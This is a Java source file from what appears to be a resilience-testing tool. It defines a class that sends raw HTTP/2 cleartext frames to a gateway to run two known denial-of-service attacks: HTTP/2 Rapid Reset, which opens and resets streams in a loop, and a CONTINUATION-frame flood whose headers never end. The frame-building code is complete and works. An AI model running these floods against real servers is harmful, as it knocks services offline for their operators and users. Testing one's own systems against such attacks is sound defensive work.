package io.lancang.standalone.siege.attack.http;

import static io.lancang.standalone.siege.wire.HttpRequests.bytes;
import static io.lancang.standalone.siege.wire.HttpRequests.joined;

import io.lancang.standalone.siege.attack.Assault;
import io.lancang.standalone.siege.attack.Attack;
import io.lancang.standalone.siege.attack.Target.Gate;
import io.lancang.standalone.siege.wire.HttpConnection;
import java.io.IOException;

/** HTTP/2 in clear text, by prior knowledge: streams that are opened and reset, and headers that never end. */
record Http2Frames(String name, String what) implements Attack {
    private static final byte[] PREFACE =
            joined(bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, new byte[0]));
    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int CONTINUATION = 9;
    private static final int END_OF_HEADERS = 4;
    /** {@code :method POST, :scheme http, :path /} from the static table, and {@code :authority a}. */
    private static final byte[] REQUEST = {(byte) 0x83, (byte) 0x86, (byte) 0x84, 0x41, 0x01, 'a'};

    private static final int FRAMES = 200_000;

    @Override
    public void run(Assault assault) throws InterruptedException {
        assault.againAndAgain(8, _ -> {
            HttpConnection connection = assault.connect(Gate.GATEWAY);
            try {
                connection.send(PREFACE);
                if (name.equals("rapid-reset")) {
                    reset(assault, connection);
                } else {
                    goOn(assault, connection);
                }
                assault.tally().count("all frames taken");
            } catch (IOException closed) {
                assault.tally().count("closed");
                assault.pauseAfterFailure();
            } finally {
                assault.release(connection);
            }
        });
    }

    private static void reset(Assault assault, HttpConnection connection) throws IOException {
        for (int stream = 1; stream < 2 * FRAMES && assault.goesOn(); stream += 2) {
            connection.send(joined(
                    frame(HEADERS, END_OF_HEADERS, stream, REQUEST), frame(RESET, 0, stream, new byte[] {0, 0, 0, 8})));
        }
    }

    private static void goOn(Assault assault, HttpConnection connection) throws IOException {
        connection.send(frame(HEADERS, 0, 1, REQUEST));
        // A literal header without a name in the table: its length, its name, its length, its value.
        byte[] header = joined(new byte[] {0, 1, 'x', 100}, bytes("v".repeat(100)));
        for (int sent = 0; sent < FRAMES && assault.goesOn(); sent++) {
            connection.send(frame(CONTINUATION, 0, 1, header));
        }
    }

    private static byte[] frame(int type, int flags, int stream, byte[] content) {
        byte[] head = {
            (byte) (content.length >> 16),
            (byte) (content.length >> 8),
            (byte) content.length,
            (byte) type,
            (byte) flags,
            (byte) (stream >> 24),
            (byte) (stream >> 16),
            (byte) (stream >> 8),
            (byte) stream
        };
        return joined(head, content);
    }
}
